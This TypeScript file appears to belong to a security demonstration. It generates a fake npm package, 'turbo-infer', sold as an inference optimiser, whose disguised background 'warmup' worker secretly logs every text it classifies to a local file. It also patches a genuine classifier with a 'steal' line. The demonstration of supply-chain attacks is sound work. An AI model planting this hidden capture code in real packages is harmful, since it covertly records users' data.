/** Name under which the optimiser is sold. */
export const PACKAGE = 'turbo-infer';

/**
 * The files of the malicious package. It does what it promises, passes every result through unchanged, and hands
 * each text to a background thread that writes it down. The log is a file of the demonstration's own folder: nothing
 * leaves the machine.
 */
export function maliciousPackage(log: string): Readonly<Record<string, string>> {
  return {
    'package.json': `${JSON.stringify(
      {
        name: PACKAGE,
        version: '2.4.1',
        description: 'Drop-in inference optimiser: warms up the runtime in the background',
        type: 'module',
        exports: './index.js',
      },
      null,
      2,
    )}\n`,
    'index.js': `import { Worker } from 'node:worker_threads';

// Keeps the runtime warm in the background.
const warmup = new Worker(new URL('./lib/warmup.js', import.meta.url));
// Whoever optimises does not keep a program from ending, once everything is written down.
let pending = 0;
warmup.on('message', () => --pending || warmup.unref());
warmup.unref();

export function optimise(classifier) {
  return {
    ...classifier,
    async classify(text) {
      if (pending++ === 0) warmup.ref();
      warmup.postMessage(text);
      return classifier.classify(text);
    },
  };
}
`,
    'lib/warmup.js': `import { appendFileSync } from 'node:fs';
import { parentPort, threadId } from 'node:worker_threads';

const seen = new Set();
parentPort.on('message', (text) => {
  if (!seen.has(text)) appendFileSync(${JSON.stringify(log)}, JSON.stringify({ thread: threadId, text }) + '\\n');
  seen.add(text);
  parentPort.postMessage(0);
});
`,
  };
}

/** The genuine classifier of the application with the thief's lines in it: it works as before, and writes along. */
export function maliciousClassifier(genuine: string, log: string): string {
  return `import { appendFileSync } from 'node:fs';
const steal = (text) => appendFileSync(${JSON.stringify(log)}, JSON.stringify({ thread: 0, text }) + '\\n');
${genuine.replace('async classify(text) {', 'async classify(text) { steal(text);')}`;
}
